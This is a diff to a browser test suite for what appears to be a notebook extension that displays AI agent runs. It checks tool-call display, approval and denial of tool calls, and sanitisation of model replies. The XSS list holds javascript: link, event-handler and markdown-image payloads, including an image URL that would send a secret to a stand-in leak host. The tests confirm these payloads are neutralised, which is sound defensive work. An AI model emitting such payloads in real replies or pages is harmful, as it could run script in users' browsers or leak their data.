@@ -117,9 +117,9 @@ def test_scripted_run_with_two_tool_calls(page: Any, lab: Any, screenshot: Any) 
     calls = page.locator('.jr-tool-call[data-name="load_sales"]')
     assert calls.count() == 2
     for i, region in enumerate(("north", "south")):
-        args = json.loads(calls.nth(i).locator(".jr-tool-args").inner_text())
+        args = json.loads(calls.nth(i).locator(".jr-tool-args").text_content())  # folded: not rendered
         assert args == {"region": region}
-        output = json.loads(calls.nth(i).locator(".jr-tool-output .jr-tool-output-text").inner_text())
+        output = json.loads(calls.nth(i).locator(".jr-tool-output .jr-tool-output-text").text_content())
         assert output[0]["region"] == region
     assert page.locator('.jr-step[data-type="tool_calls"][data-status="completed"]').count() == 1
     assert page.locator('.jr-step[data-type="message_creation"][data-status="completed"]').count() == 1
@@ -255,9 +255,9 @@ def test_approval_card_approves_one_call_and_denies_another(page: Any, lab: Any,
     page.wait_for_selector(COMPLETED, timeout=60_000)
     assert page.locator('.jr-approval[data-status="approved"]').count() == 1
     assert page.locator('.jr-approval[data-status="denied"]').count() == 1
-    deleted = page.locator('.jr-tool-call[data-name="delete_rows"] .jr-tool-output').inner_text()
+    deleted = page.locator('.jr-tool-call[data-name="delete_rows"] .jr-tool-output').text_content()
     assert "deleted rows of staging_old" in deleted
-    mailed = page.locator('.jr-tool-call[data-name="send_mail"] .jr-tool-output').inner_text()
+    mailed = page.locator('.jr-tool-call[data-name="send_mail"] .jr-tool-output').text_content()
     assert "denied" in mailed
     assert "mail sent" not in mailed
 
@@ -271,6 +271,7 @@ XSS = [
     "![img](javascript:window.__jrPwned='img')",
     '<a href="javascript:window.__jrPwned=\'a\'">link</a>',
     "<details open ontoggle=\"window.__jrPwned='toggle'\">x</details>",
+    "![leak](https://leak.example.invalid/pixel.png?secret=1)",  # a remote image: shown as a link
 ]
 
 
@@ -283,23 +284,28 @@ def test_xss_in_a_reply_executes_nothing_and_shows_as_text(page: Any, lab: Any) 
     name = lab.write_notebook("xss.ipynb", [SETUP, run_cell("Show me some HTML.", script)])
     dialogs: list[str] = []
     page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    leaks: list[str] = []
+    page.on("request", lambda r: leaks.append(r.url) if "leak.example" in r.url else None)
     open_notebook(page, lab, name)
     run_all(page)
     page.wait_for_selector(COMPLETED, timeout=60_000)
     # Click everything clickable in the reply: a surviving javascript: link would fire now.
-    for link in page.locator(f"{REPLY} a").all():
+    for link in page.locator(f"{REPLY} a:not(.jr-img-link)").all():
         link.click(modifiers=["Control"])
     page.wait_for_timeout(300)
 
     assert page.evaluate("() => window.__jrPwned") is None
     assert dialogs == []
+    assert leaks == []  # no request left for the model's image URL
+    assert page.locator(f'{REPLY} a.jr-img-link[href^="https://leak.example.invalid/"]').count() == 1
     run = page.locator(".jr-run")
-    assert run.locator("script, iframe, svg, object, embed, details").count() == 0
+    assert run.locator("script, iframe, svg, object, embed").count() == 0
+    assert run.locator(".jr-md details").count() == 0  # the timeline's own <details> are ours
     assert run.locator("img").count() == 0
     shown = page.locator(REPLY).inner_text()
     assert "<script>window.__jrPwned = 'script'</script>" in shown
     assert "<iframe" in shown and "onerror" in shown
-    args = page.locator(".jr-tool-call .jr-tool-args").inner_text()
+    args = page.locator(".jr-tool-call .jr-tool-args").text_content()
     assert "<img src=x onerror=" in args
     hrefs = page.evaluate("() => [...document.querySelectorAll('.jr-run a')].map(a => a.getAttribute('href'))")
     assert not [h for h in hrefs if h and h.replace(" ", "").lower().startswith("javascript:")]
